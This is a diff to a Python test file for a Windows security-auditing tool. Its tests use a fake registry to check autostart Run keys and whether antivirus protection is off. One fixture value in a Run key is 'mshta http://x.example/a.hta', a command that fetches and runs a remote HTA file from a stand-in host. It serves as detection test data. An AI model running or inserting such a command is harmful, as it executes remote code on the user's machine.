@@ -148,7 +148,8 @@ def test_run_keys_of_machine_and_users() -> None:
             f"HKLM\\{RUN}": {"SecurityHealth": "%windir%\\system32\\SecurityHealthSystray.exe"},
             f"32:HKLM\\{RUN}": {"old": "mshta http://x.example/a.hta"},
             f"HKU\\S-1-5-21-1\\{RUN}": {
-                "drive": "C:\\Users\\lan\\AppData\\Local\\Drive\\drive.exe /background",
+                "drive": "C:\\Users\\lan\\AppData\\Roaming\\Drive\\drive.exe /background",
+                "chat": "C:\\Users\\lan\\AppData\\Local\\Programs\\chat.exe",
                 "u": "C:\\Users\\Public\\u.exe",
                 "odd": b"\xff\xfe",
             },
@@ -214,6 +215,19 @@ def test_defender_off_old_and_told_to_look_away() -> None:
     assert not any("SQL" in subject for _rule, subject in met(found))
     assert next(one for one in found if isinstance(one, Observation)).detail["signatures_days"] == 40
     assert len([one for one in found if isinstance(one, Missed)]) == 1
+
+
+def test_protection_off_is_told_only_where_no_other_product_is_on() -> None:
+    center = "HKLM\\SOFTWARE\\Microsoft\\Security Center\\Provider\\Av"
+    off = {
+        f"HKLM\\{DEFENDER}": {"DisableAntiSpyware": 1},
+        f"{center}\\{{1}}": {"DISPLAYNAME": "Defender", "STATE": 0x60100},
+    }
+    assert {subject for _rule, subject in met(look(windows_registry.look_protection, FakeWindows(off)))} == {
+        "antivirus Microsoft Defender", "antivirus Defender",
+    }  # fmt: skip
+    guarded = off | {f"{center}\\{{2}}": {"DISPLAYNAME": "Other", "STATE": 0x41000}}
+    assert met(look(windows_registry.look_protection, FakeWindows(guarded))) == set()
 
 
 def test_usb_storage() -> None:
